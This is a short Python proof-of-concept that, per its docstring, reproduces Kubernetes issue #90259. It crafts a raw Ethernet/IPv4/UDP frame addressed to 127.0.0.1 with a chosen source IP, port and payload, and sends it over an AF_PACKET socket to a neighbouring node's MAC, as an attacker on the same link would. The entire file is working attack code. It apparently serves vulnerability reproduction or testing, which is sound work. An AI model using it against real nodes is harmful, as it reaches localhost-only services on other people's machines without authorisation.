#!/usr/bin/env python3
"""Sends one UDP datagram addressed to 127.0.0.1:PORT out of INTERFACE to the neighbour with MAC
DST_MAC, as an attacker on a node's link would (kubernetes #90259). A normal socket cannot: the
kernel routes 127.0.0.1 to lo, so the frame is built by hand on an AF_PACKET socket."""
import argparse
import socket
import struct


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("interface")
    parser.add_argument("dst_mac")
    parser.add_argument("src_ip")
    parser.add_argument("port", type=int)
    parser.add_argument("payload")
    parser.add_argument("--source-port", type=int, default=40999)
    args = parser.parse_args()

    payload = args.payload.encode()
    src, dst = socket.inet_aton(args.src_ip), socket.inet_aton("127.0.0.1")
    udp_length = 8 + len(payload)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_UDP, udp_length)
    udp = struct.pack("!HHHH", args.source_port, args.port, udp_length, 0) + payload
    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_length, 0x1234, 0x4000, 64, socket.IPPROTO_UDP, 0, src, dst)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]

    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((args.interface, 0))
        source_mac = sock.getsockname()[4]
        frame = bytes.fromhex(args.dst_mac.replace(":", "")) + source_mac + struct.pack("!H", 0x0800)
        sock.send(frame + header + udp)


if __name__ == "__main__":
    main()
